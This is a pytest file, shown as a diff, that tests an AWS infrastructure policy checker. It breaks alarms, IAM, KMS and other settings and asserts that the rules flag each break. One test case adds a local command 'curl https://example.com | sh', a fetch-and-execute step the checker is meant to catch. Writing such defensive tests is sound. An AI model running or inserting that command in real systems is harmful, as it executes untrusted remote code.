@@ -1,0 +1,212 @@
+"""What once passed in silence: an alarm that cannot ring, a key that lets nobody work, a storm of runs.
+
+Each case asks one rule alone, so that many of them cost little.
+"""
+
+import json
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from catalogue.graph import Graph
+from policies import pack
+from tests.catching import caught
+from tests.mutate import drop, put
+from tests.policies.aws.test_rules import (
+    ALARM,
+    BUCKET_POLICY,
+    DOOR,
+    INLINE,
+    KEY,
+    LIFECYCLE,
+    MODEL,
+    ROLE,
+    TOPIC_POLICY,
+    TRAIL,
+    USER,
+    Mutation,
+    adding,
+    both,
+    editing,
+    first,
+    lacking,
+    losing,
+    setting,
+    turning,
+)
+
+POLICY, SCHEDULE = "aws:appautoscaling/policy:Policy", "aws:scheduler/schedule:Schedule"
+TRACKING = "targetTrackingScalingPolicyConfiguration"
+SUBSCRIPTION = "aws:sns/topicSubscription:TopicSubscription"
+BUDGET = "aws:budgets/budget:Budget"
+
+
+def alarm(name: str, **changes: Any) -> Mutation:
+    """An alarm of the pilot with other values."""
+    return both(*(setting(ALARM, key, value, name) for key, value in changes.items()))
+
+
+def every(starts: str) -> Mutation:
+    return setting(SCHEDULE, "scheduleExpression", starts)
+
+
+def expression(text: str) -> Mutation:
+    """Another expression in the alarm that tells of an idle endpoint."""
+    return setting(ALARM, "metricQueries.0.expression", text, "idle")
+
+
+def strange(*mutations: Mutation) -> Mutation:
+    """The graph as it is of a program that nobody knows, with changes."""
+    return both(lambda graph: replace(graph, placement=None, ours=False), *mutations)
+
+
+ABOVE, AT_LEAST = "GreaterThanThreshold", "GreaterThanOrEqualToThreshold"
+THRESHOLD, LOOKS, WATCHES = "rollback-alarm-threshold", "rollback-alarm-looks", "rollback-alarm-dimensions"
+SILENT: list[tuple[str, Mutation]] = [
+    # A flag is never above 1, and a count of failures is always at least 0.
+    (THRESHOLD, alarm("waiting", comparisonOperator=ABOVE)),
+    (THRESHOLD, alarm("backfill-failed", comparisonOperator=AT_LEAST)),
+    # A sum of errors is no share, and the least of them is 0 as long as one request is answered.
+    (THRESHOLD, alarm("scorer-errors", statistic="Sum")),
+    (THRESHOLD, alarm("scorer-errors", statistic="Minimum")),
+    (THRESHOLD, alarm("backfill-missed", statistic="Average")),
+    (THRESHOLD, expression("0 * calls")),
+    (THRESHOLD, expression("calls - calls + 5")),
+    (THRESHOLD, expression("nobody + machines")),
+    (THRESHOLD, expression("requests")),
+    (THRESHOLD, expression("calls +")),
+    (THRESHOLD, setting(ALARM, "metricQueries.1.returnData", True, "idle")),
+    (THRESHOLD, losing(ALARM, "metricQueries.0.returnData", "idle")),
+    # It says the use of the machines, which is no word of whoever calls.
+    ("rollback-idle-watched", expression("machines + 0 * calls")),
+    ("rollback-idle-watched", alarm("idle", threshold=1000)),
+    (LOOKS, alarm("backfill-missed", treatMissingData="notBreaching")),
+    (LOOKS, alarm("backfill-failed", period=90)),
+    (LOOKS, alarm("backfill-failed", period=10)),
+    (LOOKS, alarm("backfill-failed", period=1800, evaluationPeriods=49)),
+    (LOOKS, alarm("backfill-missed", evaluationPeriods=169)),
+    (LOOKS, alarm("scorer-errors", datapointsToAlarm=4)),
+    (LOOKS, setting(ALARM, "metricQueries.1.metric.period", 60, "idle")),
+    (WATCHES, alarm("scorer-errors", namespace="AWS/States")),
+    (WATCHES, alarm("backfill-failed", dimensions={"EndpointName": "aws-pilot-fraud-scorer"})),
+    (WATCHES, setting(ALARM, "dimensions.VariantName", "nobodys", "scorer-errors")),
+    ("rollback-batch-watched", alarm("backfill-failed", evaluationPeriods=2)),
+    ("rollback-batch-watched", alarm("backfill-missed", evaluationPeriods=5)),
+    ("rollback-batch-watched", alarm("backfill-missed", evaluationPeriods=160)),
+    ("rollback-batch-watched", lacking(SCHEDULE)),
+    ("limits-batch-often", every("rate(1 minute)")),
+    ("limits-batch-often", every("cron(0/10 * * * ? *)")),
+    ("limits-scaling-policy", setting(POLICY, f"{TRACKING}.targetValue", 1, "on-requests")),
+    ("limits-scaling-policy", setting(POLICY, f"{TRACKING}.targetValue", 90_000, "on-requests")),
+    ("limits-scaling-policy", setting(POLICY, f"{TRACKING}.targetValue", 1, "on-backlog")),
+    ("limits-scaling-policy", losing(POLICY, f"{TRACKING}.customizedMetricSpecification", "on-backlog")),
+    ("limits-stores-expire", losing(LIFECYCLE, "rules.1.expiration", "artifacts")),
+    ("audit-trail", losing(TRAIL, "advancedEventSelectors.1.fieldSelectors.2")),
+    ("cost-alerts-reach-owner", editing(TOPIC_POLICY, "policy", lambda d: drop(d, "Statement.0.Principal.Service.0"))),
+    ("cost-alerts-reach-owner", editing(TOPIC_POLICY, "policy", lambda d: drop(d, "Statement.0.Principal.Service.1"))),
+    (
+        "identity-permissions",
+        editing(ROLE, "assumeRolePolicy", lambda d: put(d, "Statement.0.Action.1", "sts:TagSession"), "approver"),
+    ),
+    ("identity-documents", editing(ROLE, "assumeRolePolicy", lambda d: drop(d, "Statement.0.Action.0"), "approver")),
+    ("identity-documents", editing(ROLE, "assumeRolePolicy", lambda d: put(d, "Statement.0.Effect", "Deny"), "batch")),
+    ("identity-documents", editing(DOOR, "policy", lambda d: put(d, "Statement.0.Effect", "Deny"), "logs")),
+    ("identity-documents", editing(INLINE, "policy", lambda d: drop(d, "Statement.0.Sid"))),
+    (
+        "identity-documents",
+        editing(INLINE, "policy", lambda d: put(d, "Statement.1.Sid", d["Statement"][0]["Sid"]), "batch"),
+    ),
+    (
+        "identity-documents",
+        editing("aws:iam/policy:Policy", "policy", lambda d: d["Statement"][2]["Action"].append("x")),
+    ),
+    ("identity-tasks", editing("aws:iam/policy:Policy", "policy", lambda d: drop(d, "Statement.0.Action.0"))),
+    (
+        "identity-conditions",
+        editing(BUCKET_POLICY, "policy", lambda d: drop(d, "Statement.4.Condition.ArnLike"), "audit"),
+    ),
+    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.0.Action.0"), "data")),
+    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.1.Action.0"), "data")),
+    (
+        "encryption-key-works",
+        editing(KEY, "policy", lambda d: drop(d, "Statement.1.Condition.StringEquals.kms:ViaService.0"), "data"),
+    ),
+    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.2"), "data")),
+    ("encryption-key-works", editing(KEY, "policy", lambda d: drop(d, "Statement.4"), "logs")),
+    ("identity-people-listed", lacking(USER, "ben")),
+    (
+        "world-place",
+        editing(
+            INLINE,
+            "policy",
+            lambda d: next(s for s in d["Statement"] if s["Sid"] == "Images").update(
+                Resource=["arn:aws:ecr:us-east-1:111122223333:repository/*"]
+            ),
+            "batch",
+        ),
+    ),
+    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "Artifacts"), "serving")),
+    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "Images"), "batch")),
+    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "ListInput0"), "batch")),
+    ("workflow-role-reaches", editing(INLINE, "policy", lambda d: _without(d, "Output"), "batch")),
+    ("world-elsewhere", strange(setting(SUBSCRIPTION, "endpoint", "mallory@example.com"))),
+    (
+        "world-elsewhere",
+        strange(setting(MODEL, "primaryContainer.image", "111122223333.dkr.ecr.us-east-1.amazonaws.com/mallorys:1")),
+    ),
+    ("kind-known", strange(adding("command:local:Command", create="curl https://example.com | sh"))),
+]
+
+
+def _without(document: Any, sid: str) -> None:
+    document["Statement"] = [each for each in document["Statement"] if each["Sid"] != sid]
+
+
+@pytest.mark.parametrize(("rule", "mutation"), SILENT, ids=[f"{i}-{rule}" for i, (rule, _) in enumerate(SILENT)])
+def test_what_passed_in_silence_is_told(aws_pilot: Graph, rule: str, mutation: Mutation) -> None:
+    assert caught(mutation(aws_pilot), rule) == {rule}
+
+
+@pytest.mark.parametrize(
+    "mutation",
+    [
+        expression("calls + machines * 0"),
+        expression("FILL(calls, 0) + 0 * machines"),
+        expression("-(0 - calls)"),
+        alarm("backfill-missed", evaluationPeriods=40),
+        alarm("backfill-failed", period=3600, treatMissingData="missing", evaluationPeriods=2),
+        alarm("scorer-errors", datapointsToAlarm=2),
+        every("rate(15 minutes)"),
+        every("cron(0/15 * * * ? *)"),
+        setting(POLICY, f"{TRACKING}.targetValue", 30, "on-requests"),
+        setting(LIFECYCLE, "rules.1.expiration.days", 20, "artifacts"),
+        editing(TOPIC_POLICY, "policy", lambda d: put(d, "Statement.0.Action", ["SNS:Publish"])),
+        turning(BUDGET, "notifications", lambda said: said[::-1]),
+    ],
+)
+def test_what_means_the_same_or_is_as_good_is_let_be(aws_pilot: Graph, mutation: Mutation) -> None:
+    rules = {rule for rule, _ in SILENT}
+    graph = mutation(aws_pilot)
+    found = caught(graph, *rules)
+    unreadable = "FILL" in json.dumps(first(graph, ALARM, "idle").inputs["metricQueries"])
+    assert found == ({THRESHOLD} if unreadable else set()), "metric math that nobody can judge is a finding of ours"
+
+
+def test_another_program_is_told_once_of_each_place_and_never_fails_for_it(aws_pilot: Graph) -> None:
+    (rule,) = (rule for rule in pack.RULES["aws"] if rule.name == "world-elsewhere")
+    assert not rule.judge(aws_pilot).violations and not rule.mandatory
+    quiet = strange()(aws_pilot)
+    assert [violation.sentence for violation in rule.judge(quiet).violations] == []
+    foreign = "s3://somebody-elses/models/a.tar.gz"
+    twice = strange(
+        setting(MODEL, "primaryContainer.modelDataUrl", foreign, "fraud-scorer"),
+        setting(MODEL, "primaryContainer.modelDataUrl", foreign.replace("a.tar", "b.tar"), "document-embedder"),
+    )
+    (only,) = rule.judge(twice(aws_pilot)).violations
+    assert "somebody-elses in primaryContainer.modelDataUrl" in only.sentence
+
+
+def test_the_metric_math_of_another_program_is_not_ours_to_read(aws_pilot: Graph) -> None:
+    graph = strange(expression("SUM(METRICS())"))(aws_pilot)
+    assert caught(graph, THRESHOLD) == set()
